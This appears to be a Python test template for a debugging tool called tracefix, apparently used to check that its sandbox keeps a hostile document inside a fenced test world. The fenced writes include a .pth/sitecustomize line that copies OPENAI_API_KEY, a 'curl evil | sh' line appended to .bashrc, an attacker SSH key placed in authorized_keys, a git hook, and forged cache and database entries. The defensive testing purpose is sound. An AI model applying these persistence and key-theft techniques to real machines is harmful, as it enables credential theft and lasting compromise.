"""Hostile document (a template): every test tries to write where a run must never write.

tests/hostile/world.py prepends ``CONFIG = {...}`` (the paths of one test world) and saves
the result as the document under debug. The targets are what a real attacker would aim
at: site-packages of the interpreter tracefix runs on and of the project's venv (a
``.pth`` file there runs at every interpreter start — the key-theft path of issue 12),
the project tree, HOME, tracefix's data folder (the feedback store), its pytest shim,
/tmp and /dev/shm. Every write is fenced so that even on a machine without any sandbox
it can only land inside the test world or on a file named with the world's token — this
corpus must never damage the machine that runs it.
"""
import os
import site
import sqlite3
import sys
import sysconfig
import time

ROOT = CONFIG["root"]  # noqa: F821 - prepended by world.py
TOKEN = CONFIG["token"]  # noqa: F821


def add(a, b):
    return a - b  # the bug tracefix should find: a real failing test next to the hostile ones


def test_add():
    assert add(2, 2) == 4


def _fenced(path):
    """Inside the test world, or a file whose name carries this world's token."""
    real = os.path.realpath(path)
    return real.startswith(ROOT + os.sep) or TOKEN in os.path.basename(path)


def _write(path, data="pwned\n", mode="w"):
    if not _fenced(path):
        return
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, mode) as f:
            f.write(data)
    except OSError:
        pass


def _remove(path):
    if _fenced(path):
        try:
            os.remove(path)
        except OSError:
            pass


def test_pth_in_every_site_packages():
    # Runs at the next start of that interpreter: copies the key out, as in issue 12.
    line = ("import os; open(%r, 'a').write(os.environ.get('OPENAI_API_KEY', 'no key') + '\\n')\n"
            % CONFIG["pth_ran"])  # noqa: F821
    places = set(site.getsitepackages()) | {sysconfig.get_paths()["purelib"], CONFIG["tf_site"],  # noqa: F821
                                            CONFIG["project_site"]}  # noqa: F821
    for folder in places:
        _write(os.path.join(folder, "zz_hostile_%s.pth" % TOKEN), line)
        _write(os.path.join(folder, "sitecustomize.py"), line)


def test_project_tree():
    project = CONFIG["project"]  # noqa: F821
    _write(os.path.join(project, "HACKED.txt"))
    _write(os.path.join(project, "pkg", "calc.py"), "# the document on disk, overwritten\n")
    _remove(os.path.join(project, "README.md"))
    _write(os.path.join(project, "sub", "helper.py"), "raise SystemExit('pwned')\n")
    _write(os.path.join(project, ".git", "hooks", "post-checkout"), "#!/bin/sh\necho pwned\n")
    for entry in sys.path:  # wherever the real folder shows up on the import path
        if entry.startswith(project):
            _write(os.path.join(entry, "planted_%s.py" % TOKEN))
    try:
        import sub.helper as helper  # a package the mirror may not have copied: imported from disk?

        _write(os.path.join(os.path.dirname(helper.__file__), "planted_next_to_helper.py"))
    except BaseException:
        pass


def test_home():
    home = CONFIG["home"]  # noqa: F821
    _write(os.path.join(home, ".bashrc"), "curl evil | sh\n", "a")
    _write(os.path.join(home, ".ssh", "authorized_keys"), "ssh-ed25519 AAAA attacker\n")
    _remove(os.path.join(home, ".profile"))
    for rel in (".cache/tracefix/planted", ".local/share/tracefix/planted", ".config/tracefix/planted"):
        _write(os.path.join(home, rel))


def test_tracefix_cache():
    # Project models and last outcomes live here; a forged entry would steer later runs.
    cache = CONFIG["cache"]  # noqa: F821
    _write(os.path.join(cache, "planted"))
    for folder, _dirs, files in os.walk(cache):
        for name in files:
            _write(os.path.join(folder, name), "{}", "w")
            _write(os.path.join(folder, name + ".planted"))


def test_data_dir():
    data = CONFIG["data"]  # noqa: F821
    store = os.path.join(data, "feedback.sqlite3")
    if _fenced(store):
        try:
            db = sqlite3.connect(store, timeout=2)
            with db:
                rows = [(time.time(), "reject", "arith", "k%d" % i, '{"operator": "arith"}') for i in range(50)]
                rows.append((1e12, "clicked", 7, "k", "{broken"))  # and one malformed row
                db.executemany("INSERT INTO events (ts, event, operator, key, features) VALUES (?, ?, ?, ?, ?)",
                               rows)
            db.close()
        except Exception:
            pass
    _write(os.path.join(data, "planted"))


def test_temp_and_shm():
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        _write(os.path.join(folder, "tracefix-hostile-%s" % TOKEN))
    try:
        from multiprocessing import shared_memory

        seg = shared_memory.SharedMemory(name="tracefix-hostile-%s-seg" % TOKEN, create=True, size=4096)
        seg.buf[:5] = b"hello"
        seg.close()  # and never unlink()ed: a leftover unless the run's /dev/shm is private
        try:
            from multiprocessing import resource_tracker

            resource_tracker.unregister(seg._name, "shared_memory")  # no tracker tidying up for us
        except Exception:
            pass
    except Exception:
        pass


def test_pytest_shim():
    # tracefix's own pytest (for interpreters without one) is a folder of symlinks that later runs
    # of the same tracefix process reuse; plant a module there.
    try:
        import pytest

        folder = os.path.dirname(os.path.dirname(pytest.__file__))
    except BaseException:
        return
    if os.path.isdir(folder) and "tracefix" in os.path.basename(folder):
        _write(os.path.join(folder, "zz_hostile_%s.py" % TOKEN))
